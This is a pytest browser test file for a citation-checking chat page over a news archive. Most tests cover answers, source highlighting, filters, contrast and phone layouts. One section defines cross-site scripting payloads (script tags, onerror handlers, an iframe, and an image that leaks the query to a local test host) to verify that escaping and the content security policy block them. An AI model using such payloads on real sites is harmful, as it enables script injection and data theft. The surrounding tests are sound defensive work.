"""The page in a real browser: what a reader does, what foreign text cannot do, and that nothing leaves the machine."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest

from rag.web import Page, elements, guard, serve
from tests.web.conftest import Reader
from tests.web.fake_archive import FakeArchive

pytestmark = pytest.mark.browser

SOLDIERS = "How many soldiers died in the flare-up?"


def highlighted(reader: Reader, number: int) -> str:
    """The text that is highlighted now as citation ``number``, put together from its pieces."""
    return str(
        reader.page.evaluate(
            "n => [...document.querySelectorAll(`mark.fn-here.fn-c${n}`)].map(m => m.textContent).join('')", number
        )
    )


def in_view(reader: Reader, selector: str) -> bool:
    return bool(
        reader.page.evaluate(
            """s => { const r = document.querySelector(s).getBoundingClientRect();
                      const p = document.getElementById('fn-panel').getBoundingClientRect();
                      return r.top >= p.top - 1 && r.top < p.bottom; }""",
            selector,
        )
    )


# -- asking ----------------------------------------------------------------------------------------------------------


def test_a_question_gets_sentences_with_verdicts_chips_and_sources(reader: Reader) -> None:
    reader.ask(SOLDIERS)
    assert reader.last.locator(".fn-claim").count() == 3
    assert reader.last.locator(".fn-mark").first.inner_text().strip().startswith("✓")
    assert "Partly supported" in reader.last.locator(".fn-mark").nth(1).text_content()
    assert [c.inner_text() for c in reader.last.locator(".fn-chip").all()] == ["1", "2", "3"]
    assert "3 sentences checked, 2 supported, 1 partly" in reader.last.locator(".fn-tally").inner_text()
    assert "Press TV" in reader.page.locator("#fn-panel .fn-list").inner_text()
    assert reader.page.locator("#fn-question textarea").input_value() == ""


def test_an_example_can_be_asked_with_one_click(reader: Reader) -> None:
    reader.page.locator(".fn-example").first.click()
    reader.page.wait_for_selector(".fn-tally")
    assert reader.last.locator(".fn-question").inner_text() == SOLDIERS


def test_something_is_said_before_the_server_has_been_heard(newcomer: Reader) -> None:
    newcomer.page.route("**/gradio_api/queue/join*", lambda _: None)  # never answered
    newcomer.page.fill("#fn-question textarea", SOLDIERS)
    newcomer.page.keyboard.press("Enter")
    said = newcomer.page.evaluate("getComputedStyle(document.querySelector('.fn-log'), '::after').content")
    assert "Reading the archive" in said


def test_a_follow_up_shows_how_it_was_understood(reader: Reader, archive: FakeArchive) -> None:
    reader.ask(SOLDIERS).ask("And who said so?")
    assert "Understood as: And who said so?" in reader.last.inner_text()
    question, turns, _ = archive.asked[-1]
    assert question == "And who said so?"
    assert [turn.role for turn in turns] == ["user", "assistant"]
    assert turns[0].content == SOLDIERS


def test_an_abstention_looks_like_one_and_offers_what_is_nearest(reader: Reader) -> None:
    reader.ask("unanswerable: who won?")
    assert reader.last.locator(".fn-abstains").count() == 1
    assert "The articles do not say" in reader.last.inner_text()
    assert "closest, not an answer" in reader.last.inner_text().lower()
    assert reader.last.locator(".fn-closest .fn-chip").count() == 2


def test_articles_that_differ_are_put_side_by_side(reader: Reader) -> None:
    reader.ask("Do they differ about soldiers who died?")
    rows = [row.inner_text() for row in reader.last.locator("tbody tr").all()]
    assert len(rows) == 3
    assert "nearly 100" in rows[0]


def test_a_models_sentences_come_one_by_one_and_stop_keeps_them(reader: Reader, archive: FakeArchive) -> None:
    archive.writing.clear()
    try:
        reader.ask("write: how many soldiers died?", outcome=".fn-claim:nth-child(2)")
        assert reader.last.locator(".fn-working").count() == 1
        assert reader.last.locator(".fn-tally").count() == 0
        reader.page.click("#fn-stop")
        reader.page.wait_for_selector(".fn-exchange:last-child .fn-tally")
    finally:
        archive.writing.set()
    assert reader.last.locator(".fn-claim").count() == 2
    assert "Stopped: what was written until then." in reader.last.inner_text()


def test_nothing_jumps_while_a_model_writes(reader: Reader, archive: FakeArchive) -> None:
    """What has been shown stays where it is when more comes (Cumulative Layout Shift, web.dev: good is below 0.1)."""
    reader.page.evaluate(
        """() => {
            window.shifts = 0;
            new PerformanceObserver((list) => { for (const one of list.getEntries()) window.shifts += one.value; })
                .observe({ type: 'layout-shift' });
        }"""
    )
    reader.page.wait_for_timeout(600)  # a shift within half a second of a key is the reader's own
    archive.writing.clear()
    try:
        reader.ask("write: how many soldiers died?", outcome=".fn-claim:nth-child(2)")
        reader.page.wait_for_timeout(600)
        before = reader.page.evaluate("window.shifts")
        place = reader.last.locator(".fn-claim").first.bounding_box()
    finally:
        archive.writing.set()
    reader.page.wait_for_selector(".fn-exchange:last-child .fn-tally")
    assert reader.page.evaluate("window.shifts") - before < 0.1
    assert reader.last.locator(".fn-claim").first.bounding_box() == place


def test_a_models_whole_answer_says_who_wrote_it(reader: Reader) -> None:
    reader.ask("write: how many soldiers died?")
    assert reader.last.locator(".fn-claim").count() == 3
    assert "Written by stub in 1.5 s" in reader.last.inner_text()
    assert "written by a language model, checked" in reader.last.inner_text()


def test_shift_enter_makes_a_new_line_and_enter_sends(reader: Reader) -> None:
    reader.page.fill("#fn-question textarea", "soldiers")
    reader.page.keyboard.press("Shift+Enter")
    reader.page.keyboard.type("who died")
    assert reader.page.locator("#fn-question textarea").input_value() == "soldiers\nwho died"
    reader.page.keyboard.press("Enter")
    reader.page.wait_for_selector(".fn-tally")
    assert reader.last.locator(".fn-question").inner_text() == "soldiers\nwho died"


def test_a_question_ends_at_ten_thousand_characters(reader: Reader) -> None:
    assert reader.page.get_attribute("#fn-question textarea", "maxlength") == "10000"


def test_an_empty_question_asks_nothing(reader: Reader, archive: FakeArchive) -> None:
    asked = len(archive.asked)
    reader.page.fill("#fn-question textarea", "  ")
    reader.page.click("#fn-send")
    reader.page.wait_for_timeout(1000)  # the page's answer to it empties the box: not while the next one is typed
    reader.ask(SOLDIERS)
    assert len(archive.asked) == asked + 1


# -- sources ---------------------------------------------------------------------------------------------------------


def test_a_chip_leads_to_the_very_words(reader: Reader) -> None:
    reader.ask(SOLDIERS)
    for number in (2, 3, 1):
        quote = reader.last.locator(".fn-claim .fn-words").nth(number - 1).inner_text()
        reader.last.locator(f".fn-chip >> text='{number}'").first.click()
        assert highlighted(reader, number) == quote
        assert in_view(reader, f"mark.fn-here.fn-c{number}")
        assert reader.page.locator(f"mark.fn-here:not(.fn-c{number})").count() == 0


def test_a_chip_opens_the_article_it_cites_among_several(reader: Reader) -> None:
    reader.ask("What did Bagheri, Rabiei and Kanaani say about Azerbaijan and the region?")
    articles = reader.page.locator("#fn-panel .fn-article")
    assert articles.count() > 1
    link = reader.page.locator("#fn-panel .fn-source").last
    number = reader.page.locator("#fn-panel .fn-numbers").last.inner_text()
    reader.last.locator(f".fn-chip >> text='{number}'").first.click()
    assert [a.is_visible() for a in articles.all()] == [False] * (articles.count() - 1) + [True]
    assert link.get_attribute("aria-current") == "true"
    assert highlighted(reader, int(number))


def test_the_list_of_sources_opens_an_article(reader: Reader) -> None:
    reader.ask("What did Bagheri, Rabiei and Kanaani say about Azerbaijan and the region?")
    reader.page.locator("#fn-panel .fn-source").last.click()
    assert reader.page.locator("#fn-panel .fn-article").last.is_visible()
    assert not reader.page.locator("#fn-panel .fn-article").first.is_visible()


def test_a_chip_of_an_earlier_answer_brings_its_sources_back(reader: Reader) -> None:
    reader.ask(SOLDIERS).ask("Where is the zebra parade?")
    first = reader.page.locator(".fn-exchange").first
    quote = first.locator(".fn-words").nth(1).inner_text()
    first.locator(".fn-chip").nth(1).click()
    reader.page.wait_for_selector("mark.fn-here")
    assert highlighted(reader, 2) == quote


def test_the_sources_of_the_next_answer_are_read_from_the_top(reader: Reader) -> None:
    reader.ask(SOLDIERS)
    reader.last.locator(".fn-chip").last.click()
    reader.ask("What did Bagheri, Rabiei and Kanaani say about Azerbaijan and the region?")
    assert reader.page.evaluate("document.getElementById('fn-panel').scrollTop") == 0


def test_a_source_that_changed_says_so_and_still_shows_the_quote(reader: Reader, archive: FakeArchive) -> None:
    archive.changed.add("003_533953950e04e266.txt")
    try:
        reader.ask(SOLDIERS)
    finally:
        archive.changed.clear()
    assert "Changed since indexed" in reader.page.locator("#fn-panel").inner_text()
    reader.last.locator(".fn-chip").first.click()
    assert highlighted(reader, 1) == reader.last.locator(".fn-words").first.inner_text()


# -- verdicts --------------------------------------------------------------------------------------------------------


def test_the_reason_shows_on_focus_and_on_hover_and_goes_with_escape(reader: Reader) -> None:
    reader.ask(SOLDIERS)
    tip = reader.last.locator(".fn-tip").nth(1)
    mark = reader.last.locator(".fn-mark").nth(1)
    assert not tip.is_visible()
    reader.last.locator(".fn-chip").first.focus()
    reader.page.keyboard.press("Tab")
    assert mark.evaluate("e => e === document.activeElement")
    assert tip.is_visible()
    assert "The date is not in the cited sentence." in tip.inner_text()
    reader.page.keyboard.press("Escape")
    assert not tip.is_visible()
    mark.hover()
    assert tip.is_visible()


# -- stop, retry, copy, new ------------------------------------------------------------------------------------------


def test_a_running_question_says_what_it_does_and_can_be_stopped(reader: Reader, archive: FakeArchive) -> None:
    archive.gone_on.clear()
    reader.page.fill("#fn-question textarea", "slowly, please")
    reader.page.keyboard.press("Enter")
    reader.page.wait_for_selector(".fn-working >> text=/Reading passage [2-9]/")
    assert not reader.page.is_visible("#fn-send")
    reader.page.click("#fn-stop")
    reader.page.wait_for_selector(".fn-stopped")
    assert reader.page.is_visible("#fn-send")
    reader.ask(SOLDIERS)
    assert reader.last.locator(".fn-claim").count() == 3
    assert not archive.gone_on.is_set(), "the work itself was given up, not just its answer"


def test_asking_again_takes_the_place_of_the_last_answer(reader: Reader, archive: FakeArchive) -> None:
    reader.ask(SOLDIERS)
    asked = len(archive.asked)
    before = str(reader.last.get_attribute("id"))
    reader.last.locator(".fn-again").click()
    reader.page.wait_for_selector(f".fn-exchange:not(#{before}) .fn-tally")
    assert reader.page.locator(".fn-exchange").count() == 1
    assert archive.asked[asked][0] == SOLDIERS
    assert archive.asked[asked][1] == []


def test_copy_takes_the_answer_with_its_citations(reader: Reader) -> None:
    reader.ask(SOLDIERS)
    reader.last.locator(".fn-copy").click()
    reader.page.wait_for_selector("text=Copied")
    copied = reader.page.evaluate("navigator.clipboard.readText()")
    assert copied.startswith(SOLDIERS)
    assert "[1]" in copied
    assert reader.last.locator(".fn-words").first.inner_text() in copied


def test_a_new_chat_starts_empty(reader: Reader, archive: FakeArchive) -> None:
    reader.ask(SOLDIERS)
    reader.page.click("#fn-new")
    reader.page.wait_for_selector(".fn-example")
    assert reader.page.locator(".fn-exchange").count() == 0
    assert reader.page.locator("#fn-panel .fn-article").count() == 0
    reader.ask("And who said so?")
    assert archive.asked[-1][1] == []


def test_two_readers_do_not_see_each_other(reader: Reader, browser: Any, served: Page) -> None:
    other = Reader(browser, served.url).open()
    reader.ask("What about the soldiers, says the first reader?")
    other.ask("What about the troops, says the second reader?")
    assert "second" not in reader.page.inner_text("body")
    assert "first" not in other.page.inner_text(".fn-log")
    other.context.close()


# -- filters and errors ----------------------------------------------------------------------------------------------


def test_the_chat_obeys_the_filters_and_shows_them(newcomer: Reader, archive: FakeArchive) -> None:
    newcomer.page.click("#fn-filters > button")
    newcomer.page.locator("#fn-filters").get_by_label("From").fill("2020")
    newcomer.page.locator("#fn-filters").get_by_label("Until").fill("2022-10")
    newcomer.page.locator("#fn-filters").get_by_label("Outlets").click()
    newcomer.page.get_by_role("option", name="Tasnim News").click()
    newcomer.ask("What did Kanaani say?")
    assert archive.asked[-1][2] == {"after": "2020", "before": "2022-10", "outlets": ("Tasnim News",)}
    assert "Only articles from 2020 until 2022-10, by Tasnim News" in newcomer.last.inner_text()
    assert "Press TV" not in newcomer.page.locator("#fn-panel").inner_text()


def test_a_limit_of_time_is_shown_and_removed_with_one_click(reader: Reader, archive: FakeArchive) -> None:
    reader.ask("How many soldiers died in 2020?")
    limit = reader.last.locator(".fn-window")
    assert "Only articles of 2020 (“in 2020”). Kept <b onclick=" in limit.inner_text()
    before = str(reader.last.get_attribute("id"))
    limit.get_by_role("button").click()
    reader.page.wait_for_selector(f".fn-exchange:not(#{before}) .fn-tally")
    assert reader.page.locator(".fn-exchange").count() == 1
    assert reader.last.locator(".fn-window").count() == 0
    assert archive.any_time[-2:] == [False, True]
    again = str(reader.last.get_attribute("id"))
    reader.last.locator(".fn-again").click()
    reader.page.wait_for_selector(f".fn-exchange:not(#{again}) .fn-tally")
    assert archive.any_time[-1], "what was removed comes back by itself"
    reader.ask("And in 2020?")
    assert not archive.any_time[-1], "a limit was removed from a question it does not belong to"


def test_a_named_error_is_one_line_and_the_chat_goes_on(reader: Reader) -> None:
    reader.ask("refuse this")
    assert '"not-a-date" is not a date' in reader.last.locator(".fn-error").inner_text()
    reader.ask(SOLDIERS)
    assert reader.last.locator(".fn-claim").count() == 3


def test_a_failure_nobody_foresaw_shows_nothing_of_the_inside(reader: Reader) -> None:
    reader.ask("explode, please")
    assert "Something went wrong" in reader.last.inner_text()
    assert not re.search("secret|Traceback|RuntimeError", reader.page.content())


# -- widths and colours ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("width", [360, 390, 480])
def test_a_phone_shows_all_without_scrolling_sideways(reader: Reader, width: int) -> None:
    reader.page.set_viewport_size({"width": width, "height": 800})
    reader.ask("Do they differ about soldiers who died? " + "unbroken" * 30).ask("unanswerable zebra")
    reader.page.click("#fn-filters > button")  # opens at one width, closes at the next
    assert reader.page.evaluate("document.documentElement.scrollWidth") <= width
    assert reader.page.evaluate("document.getElementById('fn-conversation').scrollWidth") <= width
    assert reader.page.locator("#fn-send").is_visible()


def test_on_a_phone_a_chip_opens_the_sources_and_the_way_back_leads_to_the_chip(reader: Reader) -> None:
    reader.page.set_viewport_size({"width": 390, "height": 800})
    reader.ask(SOLDIERS)
    assert not reader.page.is_visible("#fn-panel")
    reader.last.locator(".fn-chip").nth(1).click()
    assert reader.page.is_visible("#fn-panel")
    assert highlighted(reader, 2)
    assert in_view(reader, "mark.fn-here")
    reader.page.click("#fn-close")
    assert not reader.page.is_visible("#fn-panel")
    assert reader.last.locator(".fn-chip").nth(1).evaluate("e => e === document.activeElement")


CONTRAST = """() => {
  const parse = (c) => c.match(/[\\d.]+/g).map(Number);
  const over = (top, under) => { const a = top[3] ?? 1; return [0, 1, 2].map((i) => top[i] * a + under[i] * (1 - a)); };
  const linear = (v) => (v / 255 <= 0.03928 ? v / 255 / 12.92 : ((v / 255 + 0.055) / 1.055) ** 2.4);
  const light = (c) => { const [r, g, b] = c.map(linear);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
  const ground = (e) => { const layers = [];
    for (; e; e = e.parentElement) layers.push(parse(getComputedStyle(e).backgroundColor));
    return layers.reverse().reduce((under, top) => over(top, under), [255, 255, 255]); };
  const poor = [];
  for (const e of document.querySelectorAll('body *')) {
    const own = [...e.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
    const shows = e.checkVisibility({ checkOpacity: true, checkVisibilityCSS: true });
    if (!own || !shows || e.closest('.fn-unseen')) continue;
    let alpha = 1; for (let p = e; p; p = p.parentElement) alpha *= Number(getComputedStyle(p).opacity);
    const behind = ground(e); const ink = parse(getComputedStyle(e).color); ink[3] = (ink[3] ?? 1) * alpha;
    const [a, b] = [light(over(ink, behind)), light(behind)];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    if (ratio < 4.5) poor.push(`${e.className || e.tagName} ${ratio.toFixed(2)} ${e.textContent.slice(0, 30)}`);
  }
  return poor;
}"""


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_every_word_can_be_read_in_light_and_in_dark(newcomer: Reader, theme: str) -> None:
    """WCAG AA: contrast of at least 4.5 for all text that shows."""
    newcomer.open(f"?__theme={theme}")
    assert newcomer.page.evaluate(CONTRAST) == []
    newcomer.ask("Do they differ about soldiers who died?").ask("refuse this").ask("unanswerable")
    newcomer.ask("Who died in 2020?")
    newcomer.page.locator(".fn-exchange").first.locator(".fn-chip").first.click()
    newcomer.page.wait_for_selector("mark.fn-here")
    newcomer.page.locator(".fn-mark").nth(1).focus()
    newcomer.page.click("#fn-filters > button")
    assert newcomer.page.evaluate(CONTRAST) == []
    dark = newcomer.page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert (max(map(int, re.findall(r"\d+", dark)[:3])) < 60) == (theme == "dark")


def test_dark_follows_the_system(browser: Any, served: Page) -> None:
    reader = Reader(browser, served.url, color_scheme="dark").open()
    background = reader.page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert max(map(int, re.findall(r"\d+", background)[:3])) < 60
    reader.context.close()


# -- hostile text, and what leaves the machine -----------------------------------------------------------------------

HOSTILE = (
    "zebra parade <script>window.__tripped=1</script><img src=x onerror='window.__tripped=1'>"
    "![x](http://127.0.0.2:9/leak.png?q=zebra) <iframe src=http://127.0.0.2:9/></iframe> ${window.__tripped=1}"
)


def ask_the_hostile_question(reader: Reader) -> None:
    reader.ask(HOSTILE)
    for chip in reader.last.locator(".fn-chip").all():
        chip.click()
    reader.page.click("#fn-filters > button")
    reader.page.locator("#fn-filters").get_by_label("Outlets").click()
    reader.page.locator(".fn-mark").first.hover()
    reader.page.wait_for_timeout(300)


def test_a_hostile_article_question_and_file_name_are_shown_and_do_nothing(newcomer: Reader) -> None:
    ask_the_hostile_question(newcomer)
    assert newcomer.last.locator(".fn-question").inner_text() == HOSTILE
    panel = newcomer.page.locator("#fn-panel")
    assert "<iframe src='http://127.0.0.2:9/frame'></iframe>" in panel.inner_text()
    assert "evil<img src=x onerror=alert(1)>.txt" in panel.inner_text()
    foreign = (
        "#fn-conversation :is(img, script, iframe, svg), #fn-panel :is(img, script, iframe, svg, a:not(.fn-source))"
    )
    assert newcomer.page.locator(foreign).count() == 0
    newcomer.ask("explode ${window.__tripped=1} <img src=x onerror='window.__tripped=1'>").ask("refuse this")


@pytest.fixture
def unescaped(monkeypatch: pytest.MonkeyPatch) -> None:
    """Text is let through as it is: the first wall is down."""
    monkeypatch.setattr(elements.html, "escape", lambda words, **_: words)


@pytest.fixture
def no_policy(monkeypatch: pytest.MonkeyPatch) -> None:
    """Pages are sent without their content security policy: the second wall is down."""
    monkeypatch.setattr(guard, "_POLICY", "default-src * 'unsafe-inline' 'unsafe-eval' data: blob: {nonce}")


@pytest.fixture
def stranger(browser: Any, served: Page) -> Iterator[Reader]:
    """A reader of whom nothing is promised."""
    here = Reader(browser, served.url).open()
    yield here
    here.context.close()


@pytest.mark.filterwarnings("ignore:A `<script>` tag")
@pytest.mark.usefixtures("unescaped")
def test_if_text_were_let_through_the_policy_would_still_hold(stranger: Reader) -> None:
    stranger.ask(HOSTILE)
    stranger.page.wait_for_timeout(500)
    assert stranger.page.locator("#fn-conversation img").count() > 0
    assert not stranger.tripped
    assert [u for u in stranger.foreign if "127.0.0.2" in u] == []


@pytest.mark.filterwarnings("ignore:A `<script>` tag")
@pytest.mark.usefixtures("unescaped", "no_policy")
def test_with_both_walls_down_the_tripwire_trips(stranger: Reader) -> None:
    """The null control: these tests would notice."""
    stranger.open().ask(HOSTILE)
    stranger.page.wait_for_timeout(500)
    assert stranger.tripped
    assert any("127.0.0.2" in url for url in stranger.foreign)


def test_the_recorder_sees_a_request_that_leaves(stranger: Reader) -> None:
    """The null control of "no request leaves the machine"."""
    assert stranger.foreign == []
    stranger.context.new_page().set_content(
        "<img src='http://127.0.0.2:9/x.png'><link rel=stylesheet href='http://203.0.113.9/'>"
    )
    assert len(stranger.foreign) == 2


def test_the_page_asks_only_its_own_server(newcomer: Reader) -> None:
    newcomer.ask(SOLDIERS)
    assert len(newcomer.requests) > 20
    assert {re.sub(r"^(https?://[^/]+)/.*", r"\1", url) for url in newcomer.requests if url.startswith("http")} == {
        newcomer.url
    }


# -- the real archive ------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def real(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    from rag import Archive
    from tests.web.fake_archive import SEEDS

    with Archive.open(tmp_path_factory.mktemp("archive")) as archive:
        archive.add(SEEDS)
        with serve(archive, port=0, block=False) as page:
            yield page


def test_the_real_archive_answers_through_the_page(browser: Any, real: Page) -> None:
    reader = Reader(browser, real.url).open()
    assert "5 articles" in reader.page.inner_text("#fn-masthead")
    reader.ask(SOLDIERS)
    assert reader.last.locator(".fn-claim").count() >= 1
    chip = reader.last.locator(".fn-chip").first
    chip.click()
    reader.page.wait_for_selector("mark.fn-here")
    assert highlighted(reader, int(chip.inner_text()))
    reader.ask("What is the recipe for lemon cake?")
    assert reader.last.locator(".fn-abstains").count() == 1
    assert reader.foreign == []
    reader.context.close()
